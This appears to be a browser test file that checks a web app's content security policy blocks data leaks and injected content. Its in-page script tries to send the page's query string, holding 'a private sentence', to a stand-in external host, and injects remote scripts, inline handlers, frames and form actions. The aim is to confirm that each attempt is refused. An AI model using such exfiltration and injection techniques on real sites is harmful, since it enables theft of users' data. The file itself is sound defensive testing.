"""What the content security policy forbids, and that no page of the app wants any of it.

Each test with a browser holds the second, where it is: its console says what a page was refused.
"""

from tests.support.browser_fixtures import PAGES

ELSEWHERE = "https://elsewhere.example/"
REFUSED = """([act, elsewhere]) => new Promise((done) => {
  const told = (event) => done(event.effectiveDirective);
  addEventListener("securitypolicyviolation", told, { capture: true, once: true });
  const make = (tag, what) =>
    document.body.appendChild(Object.assign(document.createElement(tag), what));
  const acts = {
    "connect-src": () => fetch(elsewhere + location.search).catch(() => 0),
    "script-src-elem": () => make("script", { src: elsewhere }),
    "script-src-attr": () => make("b", { innerHTML: "<i onclick='0'></i>" }).firstChild.click(),
    "img-src": () => make("img", { src: elsewhere }),
    "frame-src": () => make("iframe", { src: elsewhere }),
    "form-action": () => make("form", { action: elsewhere }).submit(),
    "base-uri": () => make("base", { href: elsewhere }),
  };
  setTimeout(() => done(`${act} is allowed`), 3000);
  acts[act]();
})"""
ACTS = (
    *("connect-src", "script-src-elem", "script-src-attr", "img-src"),
    *("frame-src", "form-action", "base-uri"),
)


def test_nothing_comes_from_elsewhere_and_nothing_goes_there(address, reader):
    """Were somebody's script to run on a page, it could not tell anybody what it read."""
    page = reader.new_page()
    page.goto(f"{address}/masks?text=a+private+sentence")
    page.locator(".panel").first.wait_for()
    assert [page.evaluate(REFUSED, [act, ELSEWHERE]) for act in ACTS] == list(ACTS)
    page.close()


def test_no_page_is_refused_anything(visit):
    one = visit("")
    for path in PAGES.values():
        assert not one.goto(path).errors, path


def test_what_a_visitor_typed_is_told_to_no_other_site(address, reader):
    page = reader.new_page()
    heard: list[str | None] = []

    def hear(route):
        heard.append(route.request.headers.get("referer"))
        route.abort()

    page.route(f"{ELSEWHERE}**", hear)
    page.goto(f"{address}/masks?text=a+private+sentence")
    page.evaluate("(there) => { location.href = there; }", ELSEWHERE)
    page.wait_for_timeout(500)
    assert heard == [None]
    page.close()
